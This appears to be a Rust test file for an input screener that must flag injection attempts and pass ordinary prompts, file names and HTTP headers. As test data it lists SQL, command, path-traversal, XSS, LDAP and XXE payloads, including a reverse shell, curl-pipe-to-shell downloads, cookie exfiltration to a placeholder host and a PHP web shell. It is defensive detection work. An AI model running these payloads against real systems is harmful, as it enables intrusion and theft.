//! What must be hit and what must not, in our own wording, with the settings as they come.

mod work;

use belljar_screen::{Category, FieldKind, Screener};

/// Each text is a hit of this category.
#[track_caller]
fn hits(kind: FieldKind, category: Category, texts: &[&str]) {
    let screener = Screener::default();
    let missed: Vec<_> = texts
        .iter()
        .filter(|text| {
            screener
                .screen(kind, text)
                .is_none_or(|hit| hit.category != category)
        })
        .map(|text| (text, screener.screen(kind, text).map(|hit| hit.to_string())))
        .collect();
    assert!(
        missed.is_empty(),
        "no hit of {category} in {kind}: {missed:#?}"
    );
}

/// No text is a hit.
#[track_caller]
fn passes(kind: FieldKind, texts: &[&str]) {
    let screener = Screener::default();
    let hits: Vec<_> = texts
        .iter()
        .filter_map(|text| {
            screener
                .screen(kind, text)
                .map(|hit| (text, hit.to_string()))
        })
        .collect();
    assert!(hits.is_empty(), "hits in {kind}: {hits:#?}");
}

#[test]
fn sql_alone_is_hit() {
    hits(
        FieldKind::Prompt,
        Category::Sql,
        &[
            "'; DROP TABLE users; --",
            "' OR '1'='1",
            "\" or 3=3 #",
            "boss' --",
            "7 UNION ALL SELECT null, login, secret FROM staff",
            "1); exec xp_cmdshell('dir c:'); --",
            "0'XOR(if(now()=sysdate(),sleep(6),0))XOR'Z",
            "1 AND (SELECT 42 FROM (SELECT(SLEEP(5)))x)",
            "x' AND extractvalue(1, concat(0x7e, (select database()))) -- -",
            "3;WAITFOR DELAY '0:0:8'--",
            "5'/**/uNiOn/**/sElEcT/**/1,@@version,3#",
            "{\"login\": {\"$ne\": \"\"}, \"password\": {\"$gt\": \"\"}}",
        ],
    );
}

#[test]
fn commands_alone_are_hit() {
    hits(
        FieldKind::Prompt,
        Category::Command,
        &[
            "; cat /proc/version",
            "| whoami",
            "&& curl http://198.51.100.7/a.sh | sh",
            "$(uname -a)",
            "`netstat -an`",
            "127.0.0.1; ls -la /home",
            "a && ping -c 4 198.51.100.7",
            "& ipconfig /all",
            "() { :; }; /bin/bash -c 'id'",
            "{cat,/proc/cpuinfo}",
            "bash -i >& /dev/tcp/198.51.100.7/8080 0>&1",
            "<?php system($_GET['c']); ?>",
        ],
    );
}

#[test]
fn paths_alone_are_hit() {
    hits(
        FieldKind::Prompt,
        Category::PathTraversal,
        &[
            "../../../../etc/hostname",
            "..\\..\\..\\windows\\win.ini",
            "..%2f..%2f..%2fetc%2fpasswd",
            "%252e%252e%252f%252e%252e%252fetc/passwd",
            "..%c0%af..%c0%afboot.ini",
            "....//....//....//etc/shadow",
            "/etc/passwd",
            "C:\\boot.ini",
            "php://filter/convert.base64-encode/resource=config",
        ],
    );
}

#[test]
fn script_alone_is_hit() {
    hits(
        FieldKind::Prompt,
        Category::Script,
        &[
            "<script>fetch('//198.51.100.7/'+document.cookie)</script>",
            "\"><svg onload=alert(document.domain)>",
            "<img src=x onerror=prompt(1)>",
            "javascript:alert(1)",
            "<a href=\"java&#115;cript:confirm(1)\">x</a>",
            "';alert(1);//",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
            "<details open ontoggle=eval(name)>",
            "<iframe srcdoc='<b>x'></iframe>",
        ],
    );
}

#[test]
fn filters_alone_are_hit() {
    hits(
        FieldKind::Prompt,
        Category::Ldap,
        &[
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "*)(objectClass=person",
            "x)(|(cn=*)",
            "*))(|(mail=*",
        ],
    );
}

#[test]
fn entities_alone_are_hit() {
    hits(
        FieldKind::Prompt,
        Category::Xxe,
        &[
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><a>&x;</a>",
            "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://198.51.100.7/d.dtd\"> %d;]>",
            "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///x\" parse=\"text\"/></a>",
        ],
    );
}

#[test]
fn people_may_talk_about_all_of_it() {
    passes(
        FieldKind::Prompt,
        &[
            "",
            "Hi!",
            "What is 17 * 23?",
            "How do I drop a table in SQL?",
            "What does `'; DROP TABLE users; --` do to my database?",
            "Why is `' OR 1=1 --` dangerous, and how do prepared statements help?",
            "Explain this query to me: SELECT name FROM pets WHERE age > 3 OR kind = 'cat';",
            "Please fix this:\n\n```sql\nDELETE FROM orders WHERE id = 1 OR 1=1; --\n```",
            "How do I run `ls -la | grep foo` every minute?",
            "My script fails at `cat ../data/in.csv | sort | uniq -c`, what could be the reason?",
            "What does rm -rf do and why is it dangerous?",
            "Was bedeutet `chmod 755 script.sh` genau?",
            "¿Cómo puedo escapar las comillas en una consulta SQL?",
            "Explique-moi la différence entre GET et POST, s'il te plaît.",
            "请解释一下 `SELECT * FROM users WHERE id = 1` 的作用。",
            "Почему `git push --force` считается опасной командой?",
            "Can you explain what <div onclick=\"save()\"> does in this page?",
            "Write a short HTML page with a form and a button that shows an alert.",
            "Solve $\\frac{x+1}{x-2} = 3$ and show your steps.",
            "Compute $\\cos 60^\\circ + \\sin 30^\\circ$.",
            "| Name | Age |\n| --- | --- |\n| Ann | 31 |\n| Bob | 29 |\n\nTurn this table into JSON, please.",
            "Review this LDAP filter for me: (&(objectClass=person)(uid=jo))",
            "Is this XML valid? <note><to>Jo</to></note>",
            "O'Brien or O'Neil, who wrote it?",
            "\"NOT FOR SALE\"",
            "salt & pepper; oil | vinegar",
            "select the best answer from the following",
            "I live at 3/4 Mill Road, flat #2.",
        ],
    );
}

/// Work as people send it: nothing in it leaves a context that it did not open itself.
#[test]
fn what_breaks_out_is_hit_whatever_it_begins_with() {
    hits(
        FieldKind::Prompt,
        Category::Command,
        &[
            "8.8.8.8; cat /etc/passwd",
            "10.0.0.1 && whoami",
            "if not defined X del a",
            "x | nc 198.51.100.7 99 -e /bin/sh",
            "curl http://198.51.100.7/a | sh; bash -i >& /dev/tcp/198.51.100.7/9 0>&1",
        ],
    );
    hits(
        FieldKind::Prompt,
        Category::Sql,
        &["tea' OR 'a'='a", "3 UNION SELECT null, login FROM staff"],
    );
    hits(
        FieldKind::Prompt,
        Category::PathTraversal,
        &["..%2f..%2fsecret", "../../../../secret", "../../etc/passwd"],
    );
}

#[test]
fn identifiers_and_file_names_pass() {
    passes(
        FieldKind::Identifier,
        &[
            "my-model_v2",
            "report (final).pdf",
            "Ann's photo.jpg",
            "échantillon.csv",
            "数据.txt",
            "a",
            "user@example.org",
            "first.last+tag@mail.example.org",
            "9f8b2c0e-4f1d-4b7e-9a43-1c2d3e4f5a6b",
            "org/model:1.2.3",
            "data set 2024 & notes.xlsx",
            "select",
            "union",
            "cat.png",
            "ls.md",
            "script.js",
            "model.tar.gz",
            "C# notes.md",
            "50% done.txt",
            "id",
            "table of contents.md",
            "or-else",
            "gpt-4o-mini",
            "who am i.txt",
            "sha256:9f86d081884c7d65",
            "v1.0.0-rc.1+build.5",
            "weights.safetensors",
            "<ann@example.org>",
            "../ann",
            "../shared/notes.md",
            "./models/../models/a.gguf",
            "path=../x",
            "env=staging",
            "mysql",
            "base64",
            "noop",
            "bug; good first issue",
            "Q1 & Q2 'draft'.xlsx",
        ],
    );
}

#[test]
fn headers_and_query_strings_pass() {
    passes(
        FieldKind::Header,
        &[
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
            "Mozilla/5.0 (compatible; bot/2.1; +http://www.example.com/bot.html)",
            "curl/8.5.0",
            "python-requests/2.32.3",
            "OpenAI/Python 1.35.0",
            "Wget/1.21.4",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
            "application/json; charset=utf-8",
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
            "gzip, deflate, br",
            "en-GB,en;q=0.9,de;q=0.7,fr;q=0.5",
            "keep-alive",
            "no-cache",
            "max-age=0, must-revalidate",
            "https://example.com/search?q=red+shoes&page=2&sort=price,asc#top",
            "http://localhost:3000/chat/42",
            "limit=20&after=msg_9f8b&order=desc",
            "q=rock%20%26%20roll&lang=en",
            "from=2024-01-01T00:00:00Z&to=2024-02-01T00:00:00Z",
            "filter[status]=open&include=owner,tags",
            "path=../x",
            "Bearer abc.def-ghi_jkl",
            "bytes=0-1023",
            "W/\"67ab43\", \"54ed21\"",
            "\"Not A;Brand\";v=\"99\", \"Chromium\";v=\"126\"",
            "session=9f8b2c; theme=dark; id=42",
            "203.0.113.7, 198.51.100.2",
        ],
    );
}

#[test]
fn strict_fields_are_hit_without_regard_to_talk() {
    hits(
        FieldKind::Identifier,
        Category::PathTraversal,
        &["../../etc/passwd", "..%2f..%2fsecret", "..\\..\\boot.ini"],
    );
    hits(
        FieldKind::Identifier,
        Category::Script,
        &["<script>alert(1)</script>.png", "x\" onerror=\"alert(1)"],
    );
    hits(
        FieldKind::Identifier,
        Category::Sql,
        &["a' or '1'='1", "x'; drop table models; --"],
    );
    hits(
        FieldKind::Identifier,
        Category::Command,
        &["a; cat /etc/hosts", "$(whoami).txt"],
    );
    hits(
        FieldKind::Header,
        Category::Sql,
        &["id=1+union+select+1,2,3--", "q=x'+or+1=1--"],
    );
    hits(
        FieldKind::Header,
        Category::Command,
        &["() { :; }; /bin/sh -c id", "host=a;+whoami"],
    );
    hits(
        FieldKind::Header,
        Category::Script,
        &["q=%3Cscript%3Ealert(1)%3C/script%3E"],
    );
    hits(
        FieldKind::Identifier,
        Category::Sql,
        &["please explain to me what you think about this, how and why: ' or 1=1 -- "],
    );
}

#[test]
fn a_hit_names_its_place_and_never_the_text() {
    let screener = Screener::default();
    let text = "caf\u{e9} %27%20or%201%3D1--";
    let hit = screener.screen(FieldKind::Identifier, text).unwrap();
    assert_eq!(hit.category, Category::Sql);
    assert_eq!(text.get(hit.position..hit.position + 3), Some("%27"));
    assert!(!hit.reasons.is_empty() && hit.reasons.len() <= 3);
    let shown = hit.to_string();
    assert!(
        shown.starts_with("sql in identifier at byte 6, score "),
        "{shown}"
    );
    assert!(!shown.contains("caf") && !shown.contains("or 1"), "{shown}");
}

#[test]
fn modes_and_thresholds_are_kept() {
    use belljar_screen::{Mode, Policies, Policy, Threshold};
    let text = "'; DROP TABLE users; --";
    let with = |prompt| {
        Screener::new(Policies {
            prompt,
            ..Policies::default()
        })
    };
    let off = with(Policy {
        mode: Mode::Off,
        ..Policy::BLOCK
    });
    assert!(off.screen(FieldKind::Prompt, text).is_none());
    assert!(off.screen(FieldKind::Identifier, text).is_some());
    let report = with(Policy {
        mode: Mode::Report,
        ..Policy::BLOCK
    });
    assert!(report.screen(FieldKind::Prompt, text).is_some());
    let score = report.screen(FieldKind::Prompt, text).unwrap().score;
    let above = Policy {
        mode: Mode::Block,
        threshold: Threshold::new(score + (1.0 - score) / 2.0).unwrap(),
    };
    assert!(with(above).screen(FieldKind::Prompt, text).is_none());
}
